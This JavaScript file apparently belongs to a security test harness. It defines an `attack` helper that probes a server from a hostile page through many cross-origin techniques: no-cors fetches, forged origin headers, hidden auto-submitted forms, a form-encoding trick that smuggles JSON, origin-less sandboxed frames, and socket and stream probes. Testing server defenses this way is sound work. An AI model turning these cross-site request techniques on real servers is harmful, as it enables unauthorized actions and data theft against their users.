// Runs in the page of an attacker: `attack(how, url, {method, fields})` tries one way to reach a server and answers what
// the page could read of it: text, `loaded` for a file that a browser took as what it was asked to be, or null.

const json = (fields) => JSON.stringify(fields ?? {});

const WAYS = {
  // Requests that a browser sends to anybody without asking first.
  query: (url, { method = 'POST', fields }) =>
    fetch(`${url}?${new URLSearchParams(fields)}`, { method, mode: 'no-cors' }).then(bodyOf),
  bare: (url, { method = 'POST' }) => fetch(url, { method, mode: 'no-cors' }).then(bodyOf),
  text: (url, { fields }) => fetch(url, { method: 'POST', mode: 'no-cors', body: json(fields) }).then(bodyOf),
  untyped: (url, { fields }) =>
    fetch(url, { method: 'POST', mode: 'no-cors', body: new Blob([json(fields)]) }).then(bodyOf),
  events: (url, { fields }) =>
    fetch(`${url}?${new URLSearchParams(fields)}`, {
      method: 'POST',
      mode: 'no-cors',
      headers: { accept: 'text/event-stream' },
    }).then(bodyOf),
  keepalive: (url, { fields }) =>
    fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: json(fields) }).then(bodyOf),
  forged: (url, { fields }) =>
    fetch(url, {
      method: 'POST',
      mode: 'no-cors',
      headers: { origin: new URL(url).origin, 'sec-fetch-site': 'same-origin', referer: url },
      body: json(fields),
    }).then(bodyOf),
  unnamed: (url, { fields }) =>
    fetch(url, {
      method: 'POST',
      mode: 'no-cors',
      referrerPolicy: 'no-referrer',
      body: json(fields),
    }).then(bodyOf),
  redirected: (url, { fields }) =>
    fetch(`/redirect?to=${encodeURIComponent(url)}`, {
      method: 'POST',
      mode: 'no-cors',
      body: json(fields),
    }).then(bodyOf),
  beacon: (url, { fields }) => navigator.sendBeacon(url, json(fields)) && null,
  'beacon with fields in the query': (url, { fields }) =>
    navigator.sendBeacon(`${url}?${new URLSearchParams(fields)}`) && null,

  // Requests that a browser asks about first.
  cors: (url, { fields }) => fetch(url, { method: 'POST', body: json(fields) }).then(bodyOf),
  json: (url, { method = 'POST', fields }) =>
    fetch(url, { method, headers: { 'content-type': 'application/json' }, body: json(fields) }).then(bodyOf),
  method: (url, { method }) => fetch(url, { method }).then(bodyOf),
  'json beacon': (url, { fields }) =>
    navigator.sendBeacon(url, new Blob([json(fields)], { type: 'application/json' })) && null,
  xhr: (url, { method = 'POST', fields }) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = () => resolve(request.responseText || null);
      request.open(method, url);
      request.send(json(fields));
    }),

  // Forms: hidden, sent without a click, into a frame or a new window.
  form: (url, { fields }) =>
    inFrame((name) => submit(url, fields, 'application/x-www-form-urlencoded', name)),
  multipart: (url, { fields }) => inFrame((name) => submit(url, fields, 'multipart/form-data', name)),
  'form as JSON': (url, { fields }) => inFrame((name) => submit(url, asText(fields), 'text/plain', name)),
  'form with a query': (url, { fields }) =>
    inFrame((name) => submit(`${url}?${new URLSearchParams(fields)}`, {}, 'text/plain', name)),
  'form in a window': (url, { fields }) =>
    inWindow((name) => submit(`${url}?${new URLSearchParams(fields)}`, asText(fields), 'text/plain', name)),

  // Pages without an origin.
  sandboxed: (url, { fields }) =>
    fromFrame((frame) => {
      frame.sandbox = 'allow-scripts';
      frame.srcdoc = sender(url, fields);
    }),
  'data page': (url, { fields }) =>
    fromFrame((frame) => {
      frame.src = `data:text/html,${encodeURIComponent(sender(url, fields))}`;
    }),
  worker: (url, { fields }) =>
    new Promise((resolve) => {
      const code = `${bodyOf}; fetch(${json(url)}, {method: 'POST', mode: 'no-cors', body: ${json(json(fields))}})
        .then(bodyOf).then(postMessage, () => postMessage(null))`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = ({ data }) => resolve(data);
    }),

  // Ways to read.
  get: (url) => fetch(url).then(bodyOf),
  opaque: (url) => fetch(url, { mode: 'no-cors' }).then(bodyOf),
  image: (url) => load('img', 'src', url),
  script: (url) => load('script', 'src', url),
  style: (url) => load('link', 'href', url, { rel: 'stylesheet' }),
  video: (url) => load('video', 'src', url),
  frame: (url) =>
    inFrame((name) => {
      document.querySelector(`[name=${name}]`).src = url;
    }),
  object: (url) => load('object', 'data', url),
  window: (url) => inWindow((name) => open(url, name)),
  import: (url) => import(url).then((module) => JSON.stringify(module)),
  socket: (url) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url.replace(/^http/, 'ws'));
      socket.onopen = () => resolve('loaded');
      socket.onerror = () => resolve(null);
    }),
  stream: (url) =>
    new Promise((resolve) => {
      const source = new EventSource(url);
      const end = (value) => {
        source.close();
        resolve(value);
      };
      source.addEventListener('endpoint', ({ data }) => end(data));
      source.onmessage = ({ data }) => end(data);
      source.onerror = () => end(null);
    }),
};

globalThis.attack = async (how, url, options = {}) => {
  try {
    return await WAYS[how](url, options);
  } catch {
    return null;
  }
};

async function bodyOf(response) {
  return (await response.text()) || null;
}

function submit(action, fields, enctype, target) {
  const form = Object.assign(document.createElement('form'), { action, method: 'POST', enctype, target });
  for (const [name, value] of Object.entries(fields ?? {})) {
    form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
  }
  document.body.append(form);
  form.submit();
}

/** One field whose line `name=value` is the JSON of all. */
function asText(fields) {
  return { [`${json(fields).slice(0, -1)}${Object.keys(fields ?? {}).length > 0 ? ',' : ''}"x":"`]: '"}' };
}

let count = 0;

/** What can be read of a frame once it has loaded something. */
function inFrame(begin) {
  return new Promise((resolve) => {
    const name = `f${++count}`;
    const frame = Object.assign(document.createElement('iframe'), { name });
    document.body.append(frame);
    frame.onload = () => {
      // The empty page it begins with.
      if (isReadable(frame.contentWindow) && frame.contentWindow.location.href === 'about:blank') return;
      resolve(readable(frame.contentWindow));
    };
    begin(name);
  });
}

/** What can be read of a new window once it has left the empty page, which a foreign one shows by being out of reach. */
async function inWindow(begin) {
  const name = `w${++count}`;
  const opened = open('about:blank', name);
  begin(name);
  while (!opened.closed && isReadable(opened) && opened.location.href === 'about:blank')
    await new Promise((resolve) => setTimeout(resolve, 20));
  return readable(opened);
}

function isReadable(other) {
  try {
    return other.location.href !== undefined;
  } catch {
    return false;
  }
}

function readable(other) {
  try {
    return other.document.documentElement.textContent || null;
  } catch {
    return null;
  }
}

/** What a frame that runs `sender` could read. */
function fromFrame(prepare) {
  return new Promise((resolve) => {
    addEventListener('message', ({ data }) => resolve(data), { once: true });
    const frame = document.createElement('iframe');
    prepare(frame);
    document.body.append(frame);
  });
}

function sender(url, fields) {
  return `<script>${bodyOf}; fetch(${json(url)}, {method: 'POST', mode: 'no-cors', body: ${json(json(fields))}})
    .then(bodyOf).then((text) => parent.postMessage(text, '*'), () => parent.postMessage(null, '*'))</script>`;
}

function load(tag, attribute, url, more = {}) {
  return new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), more);
    element.onload = () => resolve('loaded');
    element.onloadeddata = () => resolve('loaded');
    element.onerror = () => resolve(null);
    element[attribute] = url;
    document.body.append(element);
  });
}
